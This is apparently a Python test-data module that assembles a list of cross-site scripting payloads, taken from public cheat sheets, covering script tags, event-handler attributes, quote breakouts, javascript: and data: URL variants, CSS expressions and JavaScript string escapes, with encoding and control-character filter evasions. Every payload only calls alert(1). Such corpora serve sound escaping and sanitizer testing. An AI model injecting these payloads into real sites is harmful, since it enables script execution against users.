# ruff: noqa: E501  the payloads are as they are published
"""Values that would run a script where they are written unescaped, or escaped for another place.

Source: the OWASP XSS Filter Evasion Cheat Sheet, the PortSwigger XSS cheat sheet and html5sec.org, by kind; every
payload calls `alert`.
"""

from __future__ import annotations

_JS = "alert(1)"
_CONTROLS = [
    "\t",
    "\n",
    "\r",
    "\x00",
    "\x01",
    "\x0b",
    "\x0c",
    "\x1f",
    " ",
    "\x7f",
    "\xa0",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\u200b",
]

_MARKUP = [
    f"<script>{_JS}</script>",
    f"<SCRIPT>{_JS}</SCRIPT >",
    f"</title><script>{_JS}</script>",
    f"</textarea><script>{_JS}</script>",
    f"</style><script>{_JS}</script>",
    f"</script><script>{_JS}</script>",
    f"</noscript><script>{_JS}</script>",
    f"</xmp></iframe></noembed><script>{_JS}</script>",
    f"--><script>{_JS}</script>",
    f"--!><script>{_JS}</script>",
    f"-><script>{_JS}</script>",
    f"><script>{_JS}</script>",
    f"]]><script>{_JS}</script>",
    f"?><script>{_JS}</script>",
    f"<!--><img src=x onerror={_JS}>-->",
    f"<img src=x onerror={_JS}>",
    f"<img/src=x/onerror={_JS}>",
    f"<img src=x:x onerror\x0c=\x0c{_JS}//",
    f"<svg onload={_JS}>",
    f"<svg/onload={_JS}//",
    f"<svg><script>{_JS}</script></svg>",
    f"<svg><style><img src=x onerror={_JS}></style></svg>",
    f"<svg><a xlink:href=javascript:{_JS}><text x=20 y=20>x</text></a></svg>",
    f"<math><a href=javascript:{_JS}>x</a></math>",
    f"<math><mi><table><mglyph><style><img src=x onerror={_JS}>",
    f"<body onload={_JS}>",
    f"<iframe src=javascript:{_JS}>",
    f"<iframe srcdoc='<script>parent.{_JS}</script>'>",
    f"<object data=javascript:{_JS}>",
    f"<embed src=javascript:{_JS}>",
    f"<details open ontoggle={_JS}>",
    f"<input autofocus onfocus={_JS}>",
    f"<video><source onerror={_JS}></video>",
    f"<audio src onerror={_JS}>",
    f"<marquee onstart={_JS}>",
    f"<form><button formaction=javascript:{_JS}>x",
    f"<a href=javascript:{_JS}>x</a>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_JS}'>",
    f"<base href=javascript:/a/+{_JS}//>",
    f"<template><script>{_JS}</script></template>",
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={_JS}>",
    f"<plaintext><script>{_JS}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_JS}>'>",
    f"\u003cscript\u003e{_JS}\u003c/script\u003e",
    f"\uff1cscript\uff1e{_JS}\uff1c/script\uff1e",
    f"&lt;script&gt;{_JS}&lt;/script&gt;",
    f"&#60;script&#62;{_JS}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={_JS}&#x3e;",
    f"+ADw-script+AD4-{_JS}+ADw-/script+AD4-",
    f"<\x00script>{_JS}</script>",
    f"<scr\x00ipt>{_JS}</script>",
    f"\x00<script>{_JS}</script>",
    f"<div onclick={_JS} style=position:fixed;inset:0>",
]
_QUOTES = [
    f"{quote}{end}{attribute}={value}{rest}"
    for quote in ('"', "'", "`", "", " ", '\\"', "\\'", "&quot;", "&#34;", "&#39;")
    for end in (" ", "/", "\x0c")
    for attribute, value, rest in (
        ("onmouseover", _JS, " x="),
        ("autofocus onfocus", f'"{_JS}"', ""),
    )
] + [f'"><svg onload={_JS}>', f"'><svg onload={_JS}>", f"><svg onload={_JS}>", f'" onload="{_JS}', f"' onerror='{_JS}"]
_URLS = [
    f"{before}{scheme}{after}"
    for scheme in ("javascript", "JaVaScRiPt", "vbscript", "data")
    for before in ("", " ", "\x01")
    for after in (f":{_JS}", f":text/html,<script>{_JS}</script>", f"://%0a{_JS}", f"\t:{_JS}", f"&colon;{_JS}")
] + [
    *(f"java{control}script:{_JS}" for control in _CONTROLS),
    *(f"{control}javascript:{_JS}" for control in _CONTROLS),
    *(f"javascript{control}:{_JS}" for control in _CONTROLS),
    f"&#106;avascript:{_JS}", f"&#x6A;avascript:{_JS}", f"&#0000106avascript:{_JS}", f"jav&Tab;ascript:{_JS}",
    f"jav&NewLine;ascript:{_JS}", f"javascript&colon;{_JS}", f"javascript\\x3a{_JS}", f"%6aavascript:{_JS}",
    f"javascript%3A{_JS}", f"//javascript:{_JS}", f"\\javascript:{_JS}", f"view-source:javascript:{_JS}",
    f"feed:javascript:{_JS}", f"jar:javascript:{_JS}", f"blob:javascript:{_JS}", f"x;javascript:{_JS}", f"#;javascript:{_JS}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_JS}'/>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", f"data:application/xhtml+xml,<script>{_JS}</script>",
    f"data:,{_JS}", f"data:text/javascript,{_JS}", f"0;url=javascript:{_JS}", f"javascript:/*--></title></style></script>"
    f"<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{_JS}//'>",
]  # fmt: skip
_CSS = [
    f"red;background:url(javascript:{_JS})", f"expression({_JS})", f"x:expression/**/({_JS})", f"red}}</style><script>{_JS}</script>",
    f"url('javascript:{_JS}')", f"-moz-binding:url(data:text/xml,{_JS})", f"behavior:url(#default#time2) onbegin={_JS}",
    f"\\65xpression({_JS})", "red;animation-name:x", f"@import 'javascript:{_JS}'", f"red\" onmouseover=\"{_JS}",
]  # fmt: skip
_JS_STRINGS = [
    f"';{_JS};//", f"\";{_JS};//", f"\\';{_JS};//", f"\\\";{_JS};//", f"`;{_JS};//", f"${{{_JS}}}", f"'-{_JS}-'", f"\"-{_JS}-\"",
    f"\u2028{_JS}\u2029", f"\n{_JS}\n", f"\r{_JS}", f"*/{_JS}/*", f"<!--\n{_JS}", f"-->\n{_JS}", f"</script\n><script>{_JS}</script>",
    f"</SCRIPT/><img src=x onerror={_JS}>", f"\\x27;{_JS};//", f"\\u0027;{_JS};//", f"{{{{constructor.constructor('{_JS}')()}}}}",
    "__proto__", f"]]>{_JS}", "<!--<script>", f"<!--<script>{_JS}</script>",
]  # fmt: skip

PAYLOADS = list(dict.fromkeys([*_MARKUP, *_QUOTES, *_URLS, *_CSS, *_JS_STRINGS, *_CONTROLS]))
